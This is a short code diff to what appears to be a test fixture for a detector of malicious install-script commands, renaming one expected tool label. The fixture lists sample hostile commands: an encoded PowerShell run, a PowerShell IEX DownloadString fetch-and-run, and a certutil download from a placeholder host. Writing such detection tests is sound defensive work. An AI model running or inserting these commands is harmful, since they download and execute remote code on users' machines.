@@ -59,7 +59,7 @@ const CAUGHT: readonly Caught[] = [
   caught('encoded', 'pwsh', '⟦pwsh⟧ -EncodedCommand SQBFAFgA', 'preinstall'),
   caught(
     'download',
-    'powershell.exe',
+    'powershell',
     '⟦powershell.exe⟧ -c "IEX (New-Object Net.WebClient).DownloadString(\'https://h.example/x\')"',
   ),
   caught('download', 'certutil', '⟦certutil⟧ -urlcache -f https://h.example/x.exe x.exe'),
